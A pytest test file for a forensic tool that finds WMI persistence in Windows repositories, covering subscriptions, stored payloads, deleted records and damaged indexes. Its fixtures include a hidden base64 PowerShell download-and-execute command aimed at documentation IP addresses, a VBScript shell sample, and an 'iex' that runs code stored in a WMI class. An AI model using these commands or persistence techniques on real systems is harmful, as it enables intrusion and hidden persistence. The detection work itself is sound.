"""Seeded repositories: each way to keep something in WMI is found, with the right word for it."""

from __future__ import annotations

import base64
import random
import struct
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.cim.forge import (
    ARRAY,
    PAGE,
    STRING,
    UINT8,
    UINT16,
    UINT32,
    Column,
    Forge,
    consumers,
    small,
    subscribe,
)
from tests.cim.judged import indicators, judged, worst
from tests.content.payloads import PAYLOADS
from triage.model import Severity

formats = pytest.mark.parametrize("modern", [True, False], ids=["vista", "xp"])


def encoded_command(seed: int = 1) -> str:
    script = (
        f"$c{seed} = New-Object Net.WebClient; "
        f"IEX $c{seed}.DownloadString('http://198.51.100.{seed}/a{seed}.ps1'); Start-Sleep {seed}"
    )
    text = base64.b64encode(script.encode("utf-16-le")).decode()
    return f"powershell.exe -NoP -W Hidden -Enc {text}"


VBSCRIPT = (
    'Dim shell\r\nSet shell = CreateObject("WScript.Shell")\r\n'
    'shell.Run "cmd.exe /c ping 198.51.100.9", 0, False\r\n'
)


def program(kind: str = "pe", seed: int = 7) -> bytes:
    return PAYLOADS[kind](random.Random(seed))


# --- subscriptions ----------------------------------------------------------------------


@formats
def test_encoded_powershell_in_a_command_consumer(tmp_path: Path, modern: bool) -> None:
    forge = small(modern)
    subscribe(forge, "CommandLineEventConsumer", {"CommandLineTemplate": encoded_command()})
    subject = worst(judged(tmp_path, forge.files()))
    assert subject.kind == "wmi-subscription"
    assert subject.severity is Severity.CRITICAL
    assert {"wmi-consumer-payload", "wmi-command-consumer", "wmi-trigger"} <= indicators(subject)
    facts = dict(subject.facts)
    assert facts["bound"] is True
    assert facts["namespace"] == "root\\subscription"
    assert "PerfOS_System" in str(facts["query"])
    assert subject.content is not None
    assert any("198.51.100.1" in clue.value for clue in subject.content.clues)


@formats
def test_vbscript_consumer(tmp_path: Path, modern: bool) -> None:
    forge = small(modern)
    values = {"ScriptingEngine": "VBScript", "ScriptText": VBSCRIPT}
    subscribe(forge, "ActiveScriptEventConsumer", values)
    subject = worst(judged(tmp_path, forge.files()))
    assert subject.severity in (Severity.HIGH, Severity.CRITICAL)
    assert "wmi-script-consumer" in indicators(subject)


def test_every_namespace_is_read(tmp_path: Path) -> None:
    forge = small()
    forge.add("root\\cimv2", "__NAMESPACE", {"Name": "mdm"})
    consumers(forge, "root\\cimv2\\mdm")
    where = "root\\cimv2\\mdm"
    command = {"CommandLineTemplate": "C:\\tool.exe"}
    subscribe(forge, "CommandLineEventConsumer", command, namespace=where)
    subject = worst(judged(tmp_path, forge.files()))
    assert dict(subject.facts)["namespace"] == where
    assert "wmi-unusual-namespace" in indicators(subject)


def test_consumer_without_binding(tmp_path: Path) -> None:
    forge = small()
    command = {"CommandLineTemplate": "C:\\tool.exe"}
    subscribe(forge, "CommandLineEventConsumer", command, bound=False)
    report = judged(tmp_path, forge.files())
    found = next(s for s in report.subjects if "wmi-command-consumer" in indicators(s))
    assert "wmi-broken-chain" in indicators(found)
    assert dict(found.facts)["bound"] is False


def test_log_file_consumer_that_writes_a_page(tmp_path: Path) -> None:
    forge = small()
    values = {"Filename": "C:\\inetpub\\wwwroot\\x.aspx", "Text": "<%@ Page Language='JScript' %>"}
    subscribe(forge, "LogFileEventConsumer", values)
    subject = worst(judged(tmp_path, forge.files()))
    assert subject.severity.points >= Severity.HIGH.points
    assert "wmi-other-consumer" in indicators(subject)


def test_two_chains_do_not_mix(tmp_path: Path) -> None:
    forge = small()
    for name in ("One", "Two"):
        values = {"CommandLineTemplate": f"C:\\{name}.exe"}
        subscribe(forge, "CommandLineEventConsumer", values, name=name)
    report = judged(tmp_path, forge.files())
    found = {(dict(s.facts)["filter"], dict(s.facts)["runs"]) for s in report.subjects}
    assert found == {('Name="One"', "C:\\One.exe"), ('Name="Two"', "C:\\Two.exe")}


# --- classes and instances as storage ---------------------------------------------------

Keep = Callable[[bytes], Column]
KEEPING: dict[str, Keep] = {
    "base64": lambda data: Column("Data", STRING, base64.b64encode(data).decode()),
    "hexadecimal": lambda data: Column("Data", STRING, data.hex()),
    "bytes": lambda data: Column("Data", UINT8 | ARRAY, list(data)),
    "bytes in words": lambda data: Column("Data", UINT16 | ARRAY, list(data)),
    "double words": lambda data: Column(
        "Data", UINT32 | ARRAY, list(struct.unpack(f"<{len(data) // 4}I", data[: len(data) & ~3]))
    ),
    "array of texts": lambda data: Column(
        "Data",
        STRING | ARRAY,
        [base64.b64encode(data[at : at + 600]).decode() for at in range(0, len(data), 600)],
    ),
}


@pytest.mark.parametrize("how", sorted(KEEPING))
@pytest.mark.parametrize("kind", sorted(set(PAYLOADS) & {"pe", "elf"}))
def test_payload_in_a_class_property(tmp_path: Path, how: str, kind: str) -> None:
    forge = small()
    forge.define("root\\cimv2", "Win32_Services", [KEEPING[how](program(kind))])
    subject = worst(judged(tmp_path, forge.files()))
    assert subject.kind == "wmi-object"
    assert subject.severity is Severity.CRITICAL
    assert "wmi-stored-payload" in indicators(subject)
    assert dict(subject.facts)["class"] == "Win32_Services"


@formats
def test_payload_in_an_instance(tmp_path: Path, modern: bool) -> None:
    forge = small(modern)
    forge.define("root\\default", "Vendor_Cache", [Column("Id", key=True), Column("Blob")])
    blob = base64.b64encode(program()).decode()
    forge.add("root\\default", "Vendor_Cache", {"Id": "x", "Blob": blob})
    subject = worst(judged(tmp_path, forge.files()))
    assert subject.severity is Severity.CRITICAL
    assert dict(subject.facts)["key"] == 'Id="x"'


def test_random_bytes_in_a_class_property(tmp_path: Path) -> None:
    forge = small()
    data = list(random.Random(5).randbytes(5000))
    forge.define("root\\cimv2", "Win32_Cache", [Column("Blob", UINT8 | ARRAY, data)])
    subject = worst(judged(tmp_path, forge.files()))
    assert subject.severity.points >= Severity.HIGH.points
    assert "wmi-stored-data" in indicators(subject)


def test_payload_in_a_qualifier(tmp_path: Path) -> None:
    forge = small()
    hidden = base64.b64encode(program()).decode()
    columns = [Column("Name", qualifiers={"Description": hidden})]
    forge.define("root\\cimv2", "Win32_Thing", columns, qualifiers={"dynamic": True})
    subject = worst(judged(tmp_path, forge.files()))
    assert "wmi-stored-payload" in indicators(subject)
    assert "qualifier Description of Name" in subject.findings[0].evidence[0]


def test_short_data_in_a_class_that_stands_alone(tmp_path: Path) -> None:
    forge = small()
    forge.define("root\\cimv2", "Win32_Settings", [Column("Value", STRING, "k3y-9")])
    subject = worst(judged(tmp_path, forge.files()))
    assert indicators(subject) == {"wmi-standalone-class", "wmi-imitating-class"}
    assert subject.severity is Severity.MEDIUM


def test_payload_split_over_properties(tmp_path: Path) -> None:
    forge = small()
    text = base64.b64encode(program()).decode()
    size = -(-len(text) // 12)
    parts = [text[at : at + size] for at in range(0, len(text), size)]
    columns = [Column(f"P{number}", STRING, part) for number, part in enumerate(parts, 1)]
    random.Random(3).shuffle(columns)
    forge.define("root\\cimv2", "Win32_Parts", columns)
    report = judged(tmp_path, forge.files())
    assert any("wmi-split-payload" in indicators(s) for s in report.subjects)
    assert worst(report).severity is Severity.CRITICAL


def test_payload_split_over_instances(tmp_path: Path) -> None:
    forge = small()
    forge.define("root\\default", "Vendor_Part", [Column("Number", UINT32, key=True), Column("T")])
    text = base64.b64encode(program()).decode()
    parts = [text[at : at + 180] for at in range(0, len(text), 180)]
    order = list(enumerate(parts))
    random.Random(4).shuffle(order)
    for number, part in order:
        forge.add("root\\default", "Vendor_Part", {"Number": number, "T": part})
    subject = worst(judged(tmp_path, forge.files()))
    assert "wmi-split-payload" in indicators(subject)
    assert subject.severity is Severity.CRITICAL


def test_a_subscription_and_the_class_it_reads_are_one_story(tmp_path: Path) -> None:
    forge = small()
    hidden = Column("Data", STRING, base64.b64encode(program()).decode())
    forge.define("root\\default", "Win32_Updates", [hidden])
    read = "([WmiClass]'root\\default:Win32_Updates').Properties['Data'].Value"
    command = f'powershell -c "iex {read}"'
    subscribe(forge, "CommandLineEventConsumer", {"CommandLineTemplate": command})
    report = judged(tmp_path, forge.files())
    kinds = {s.id: s for s in report.subjects}
    subscription = next(s for s in report.subjects if s.kind == "wmi-subscription")
    named = [kinds[link.subject] for link in subscription.links if link.relation == "names"]
    assert [dict(s.facts)["class"] for s in named] == ["Win32_Updates"]
    assert subscription.severity is Severity.CRITICAL


def test_ordinary_classes_and_instances_are_silent(tmp_path: Path) -> None:
    forge = small()
    columns = [Column("Name", key=True), Column("Description"), Column("Path"), Column("Id")]
    forge.define("root\\cimv2", "Vendor_Product", columns)
    for number in range(40):
        values = {
            "Name": f"Product {number}",
            "Description": f"The product number {number}, which does what such products do.",
            "Path": f"C:\\Program Files\\Vendor\\Product {number}\\bin\\product{number}.exe",
            "Id": f"{{6F9619FF-8B86-D011-B42D-00CF4FC9{number:04X}}}",
        }
        forge.add("root\\cimv2", "Vendor_Product", values)
    report = judged(tmp_path, forge.files())
    assert report.subjects == ()
    assert report.gaps == ()


# --- deleted, damaged, mixed up -----------------------------------------------------------


@formats
@pytest.mark.parametrize("where", ["unmapped", "unreferenced", "slack"])
def test_deleted_subscription(tmp_path: Path, modern: bool, where: str) -> None:
    forge = small(modern)
    forge.add("root\\cimv2", "__NAMESPACE", {"Name": "sub"})
    how = {"live": where == "live", "mapped": where == "unreferenced"}
    command = {"CommandLineTemplate": encoded_command(2)}
    if where == "slack":
        record = _freed(forge, command)
        forge.into_slack(record, 0)
    else:
        subscribe(forge, "CommandLineEventConsumer", command, **how)
    subject = worst(judged(tmp_path, forge.files()))
    assert {"wmi-consumer-payload", "wmi-deleted-subscription"} <= indicators(subject)
    assert dict(subject.facts)["state"] == where


def _freed(forge: Forge, values: dict[str, object]) -> bytes:
    """A consumer's record that is stored nowhere else."""
    other = Forge(forge.modern, tables=forge.tables)
    name = "CommandLineEventConsumer"
    return other.add("root\\subscription", name, {"Name": "Gone", **values})


@formats
def test_deleted_class_with_a_payload(tmp_path: Path, modern: bool) -> None:
    forge = small(modern)
    hidden = Column("Data", STRING, base64.b64encode(program()).decode())
    forge.define("root\\cimv2", "Win32_Gone", [hidden], mapped=False)
    subject = worst(judged(tmp_path, forge.files()))
    assert "wmi-stored-payload" in indicators(subject)
    assert dict(subject.facts)["state"] == "unmapped"


def test_older_copies_of_what_is_live_are_not_told_again(tmp_path: Path) -> None:
    forge = small()
    subscribe(forge, "CommandLineEventConsumer", {"CommandLineTemplate": "C:\\a.exe"})
    forge.objects += bytes(forge.objects[-2 * PAGE :])
    assert len(judged(tmp_path, forge.files()).subjects) == 1


@pytest.mark.parametrize("damage", ["no index", "zeroed", "cut", "root gone", "no mapping"])
def test_damaged_index_hides_nothing(tmp_path: Path, damage: str) -> None:
    forge = small()
    subscribe(forge, "CommandLineEventConsumer", {"CommandLineTemplate": encoded_command(3)})
    files = forge.files()
    if damage == "no index":
        del files["INDEX.BTR"]
    elif damage == "zeroed":
        files["INDEX.BTR"] = bytes(len(files["INDEX.BTR"]))
    elif damage == "cut":
        files["INDEX.BTR"] = files["INDEX.BTR"][: PAGE + 100]
    elif damage == "root gone":
        files["INDEX.BTR"] = files["INDEX.BTR"].replace(b"\xcc\xac\0\0\1\0\0\0", bytes(8))
    else:
        del files["MAPPING1.MAP"]
    report = judged(tmp_path, files)
    subject = worst(report)
    assert {"wmi-consumer-payload", "wmi-command-consumer"} <= indicators(subject)
    assert subject.severity is Severity.CRITICAL
    assert report.gaps, "the damage is not told"


def test_mixed_up_mapping(tmp_path: Path) -> None:
    forge = small()
    subscribe(forge, "CommandLineEventConsumer", {"CommandLineTemplate": encoded_command(4)})
    random.Random(1).shuffle(forge.of_objects)
    report = judged(tmp_path, forge.files())
    subject = worst(report)
    assert dict(subject.facts)["state"] == "live"
    assert "wmi-consumer-payload" in indicators(subject)
    assert [gap for gap in report.gaps if "other pages" in gap.detail]


def test_the_newest_valid_mapping_counts(tmp_path: Path) -> None:
    forge = small()
    old = forge.files()["MAPPING1.MAP"]
    forge = small()
    forge.sequence += 5
    subscribe(forge, "CommandLineEventConsumer", {"CommandLineTemplate": encoded_command(5)})
    files = forge.files()
    new = files["MAPPING1.MAP"]
    files |= {"MAPPING1.MAP": old, "mapping2.map": new, "MAPPING3.MAP": new[: len(new) // 2]}
    subject = worst(judged(tmp_path, files))
    assert dict(subject.facts)["state"] == "live"
    assert dict(subject.facts)["namespace"] == "root\\subscription"


# --- where it is found --------------------------------------------------------------------


@pytest.mark.parametrize(
    "folder",
    [
        "windows/SYSTEM32/WBEM/repository", "WINNT/system32/wbem/Repository/FS", "", "Repository",
        "Windows/System32/wbem/Repository.001",
    ],
)  # fmt: skip
def test_places_of_a_repository(tmp_path: Path, folder: str) -> None:
    forge = small()
    subscribe(forge, "CommandLineEventConsumer", {"CommandLineTemplate": encoded_command(6)})
    files = {name.swapcase(): data for name, data in forge.files().items()}
    report = judged(tmp_path, files, folder)
    assert worst(report).severity is Severity.CRITICAL
    assert [entry.applied for entry in report.coverage] == [True]


def test_no_repository_is_said_so(tmp_path: Path) -> None:
    report = judged(tmp_path / "box", {}, "etc")
    assert [entry.applied for entry in report.coverage] == [False]
    report = judged(tmp_path, {})
    assert [gap.detail for gap in report.gaps] == ["no WMI repository, only MOF files"]
